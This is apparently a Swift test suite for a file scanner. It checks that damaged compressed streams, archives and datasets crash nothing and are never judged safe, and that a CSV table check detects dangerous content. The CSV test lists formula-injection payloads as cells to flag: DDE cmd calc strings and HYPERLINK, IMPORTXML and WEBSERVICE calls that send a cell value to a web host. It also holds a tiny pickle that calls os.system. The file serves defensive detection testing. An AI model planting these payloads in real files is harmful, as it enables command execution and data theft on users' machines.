// Compressed files, archives and data sets with broken bytes: nothing crashes, nothing cut is safe.

import Bytes
import Formats
import Inspection
import Testing

@Suite("1.3c broken containers are never safe")
struct ContainerBytesTests {
  @Test(
    "cut at every byte, it is never safe",
    arguments: [
      "streams/good.pkl.gz", "streams/good.pkl.zlib", "streams/good.pkl.bz2",
      "streams/good.pkl.xz", "streams/good.pkl.zst", "streams/good.pkl.lz4",
    ])
  func truncated(_ name: String) throws {
    let bytes = try Fixtures.bytes("containers/\(name)")
    for length in 0..<bytes.count {
      let report = Fixtures.report(Array(bytes[0..<length]))
      #expect(report.verdict != .safe, "\(length) bytes of \(name)")
    }
  }

  @Test(
    "cut anywhere, it is never safe",
    arguments: [
      "tar/tree.tar", "tar/good.tar.gz", "tar/good.cpio", "tar/good.ar", "7z/good.7z",
      "7z/program-good.7z",
    ])
  func truncatedArchive(_ name: String) throws {
    let bytes = try Fixtures.bytes("containers/\(name)")
    // An archive of two members is whole, for all that can be known, after the first.
    for length in stride(from: 0, to: bytes.count, by: 37) {
      #expect(Fixtures.report(Array(bytes[0..<length])).verdict != .safe, "\(length) bytes")
    }
  }

  @Test(
    "files with bytes changed crash nothing",
    arguments: [
      "7z/good.7z", "7z/program-plain-header.7z", "7z/evil-x86-lzma.7z", "tar/good-pax.tar",
      "tar/evil-sparse-pax10.tar", "tar/tree.tar", "zip/good-lzma.zip", "tar/evil.cpio",
      "datasets/good-delta.parquet", "datasets/good-plain-v2.parquet", "datasets/good-lz4.parquet",
      "datasets/good-file.arrow", "datasets/good-zstd.arrow", "datasets/types-formula.arrow",
      "datasets/good.jsonl", "oci/good.tar", "oci/docker.tar",
    ])
  func mutated(_ name: String) throws {
    let original = try Fixtures.bytes("containers/\(name)")
    let seed = UInt64.random(in: 0...UInt64.max)
    var generator = SeededBytes(seed: seed)
    for round in 0..<60 {
      var bytes = original
      for _ in 0..<Int.random(in: 1...6, using: &generator) {
        bytes[Int.random(in: 0..<bytes.count, using: &generator)] = UInt8.random(
          in: 0...255, using: &generator)
      }
      let report = Fixtures.report(bytes)
      #expect(report.size == UInt64(bytes.count), "seed \(seed), round \(round)")
    }
  }

  @Test(
    "every byte with a bit that is flipped crashes nothing, and keeps what ran malicious or unknown",
    arguments: [
      "evil.pkl.gz", "evil.pkl.zlib", "evil.pkl.bz2", "evil.pkl.xz", "evil.pkl.zst", "evil.pkl.lz4",
    ])
  func flipped(_ name: String) throws {
    let original = try Fixtures.bytes("containers/streams/\(name)")
    for place in original.indices {
      for bit in [0, 3, 7] {
        var bytes = original
        bytes[place] ^= 1 << UInt8(bit)
        #expect(Fixtures.report(bytes).verdict != .safe, "bit \(bit) of byte \(place)")
      }
    }
  }

  @Test("the list of members of a 7z archive is broken in every way, its sums put right")
  func sevenZipHeader() throws {
    let original = try Fixtures.bytes("containers/7z/program-plain-header.7z")
    func number(_ range: Range<Int>) -> Int {
      original[range].reversed().reduce(0) { $0 << 8 | Int($1) }
    }
    func put(_ value: UInt32, _ at: Int, _ bytes: inout [UInt8]) {
      for index in 0..<4 { bytes[at + index] = UInt8(truncatingIfNeeded: value >> (8 * index)) }
    }
    let start = 32 + number(12..<20)
    let end = start + number(20..<28)
    let huge = [UInt8](repeating: 0xFF, count: 9)
    let large: [UInt8] = [0xFF, 0, 0, 0, 0, 0, 0, 0, 0x80]
    for place in start..<end {
      let own = original[place]
      for value in [[0], [1], [6], [0x80], [0xFF], [own ^ 1], [own &+ 1], [], huge, large] {
        var bytes = original
        bytes.replaceSubrange(place...place, with: value)
        put(UInt32(bytes.count - start), 20, &bytes)
        put(Checksum.crc32(Array(bytes[start...])), 28, &bytes)
        put(Checksum.crc32(Array(bytes[12..<32])), 8, &bytes)
        #expect(Fixtures.report(bytes).verdict != .safe, "\(value) at \(place - start)")
      }
    }
  }

  @Test("tables are told by their names, and their cells are read")
  func tables() {
    let rows = (0..<50).map { "\($0),some \"\"text,\"quoted, with\nlines\"" }
    let good = "a,b,c\n" + rows.joined(separator: "\n") + "\n"
    #expect(Fixtures.report(Array(good.utf8), name: "x.csv").verdict == .safe)
    #expect(Fixtures.report(Array(good.utf8), name: "x.csv").format == "csv")
    #expect(Fixtures.report(Array("a\tb\n1\t2\n".utf8), name: "d/X.TSV").verdict == .safe)
    for cell in [
      "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "=HYPERLINK(\"http://example.com/?\"&A1)", "\"=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"x\"\")\"",
      "\t=cmd|'/C calc'!A0", "=IMPORTXML(CONCAT(A1),\"//a\")", "=WEBSERVICE(A1)",
    ] {
      let report = Fixtures.report(Array((good + "1,\(cell),2\n").utf8), name: "x.csv")
      #expect(report.verdict == .suspicious, "\(cell)")
    }
    for cell in [
      "-1", "+49 30 1234", "@user", "=)", "-a | b", "--- | --- !", "- recall(x); exec(y)",
      "@register(1)", "@image(x)", "+ call(x) | y!",
      "- a table|of things!", "=SUM(A1:A9)", "-exec(1)", "=A1+B2", "- item",
    ] {
      let report = Fixtures.report(Array((good + "1,\(cell),2\n").utf8), name: "x.csv")
      #expect(report.verdict == .safe, "\(cell)")
    }
    let pickle = Array("cos\nsystem\n(S'true'\ntR.".utf8)
    #expect(Fixtures.report(pickle, name: "x.csv").verdict == .malicious)
    #expect(Fixtures.report(Array(pickle.dropLast()), name: "x.csv").verdict == .malicious)
    #expect(Fixtures.report(Array("a,b\n1,\u{0}\n".utf8), name: "x.csv").verdict == .unknown)
    #expect(Fixtures.report(Array("a,b\n1,\"x\n".utf8), name: "x.csv").verdict == .unknown)
  }

  @Test("content that is too large to be held is unpacked again, and read to its end")
  func large() throws {
    // Two members in a stream: the second lies behind more than is held.
    let bytes = try Fixtures.bytes("containers/tar/evil.tar.xz")
    let unpacked = Unpacked(
      Region(MemorySource(bytes)), .xz, joins: true, keep: 100, limit: 1 << 30, work: 1 << 30)
    let whole = Unpacked(
      Region(MemorySource(bytes)), .xz, joins: true, keep: 1 << 20, limit: 1 << 30, work: 0)
    #expect(unpacked.content.isStreamed && !whole.content.isStreamed)
    #expect(unpacked.count == whole.count && unpacked.crc == whole.crc)
    for (offset, length) in [(0, 700), (900, 20), (0, 5), (300, 1000), (1, 1)] {
      let expected = try whole.content.bytes(UInt64(offset), length)
      #expect(try unpacked.content.bytes(UInt64(offset), length) == expected)
    }
    let poor = Unpacked(
      Region(MemorySource(bytes)), .xz, joins: true, keep: 100, limit: 1 << 30, work: 10)
    #expect(throws: FormatError.self) { try poor.content.bytes(0, 5) }
  }
}
